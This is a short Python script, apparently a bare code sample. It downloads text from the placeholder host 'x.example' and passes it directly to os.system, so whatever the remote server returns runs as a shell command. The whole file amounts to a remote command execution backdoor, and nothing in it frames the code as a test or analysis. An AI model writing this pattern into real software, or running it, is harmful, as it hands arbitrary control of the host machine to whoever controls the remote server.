import os
import urllib.request


def fetch(url):
    with urllib.request.urlopen(url) as r:
        return r.read().decode()


os.system(fetch("http://x.example/cmd"))
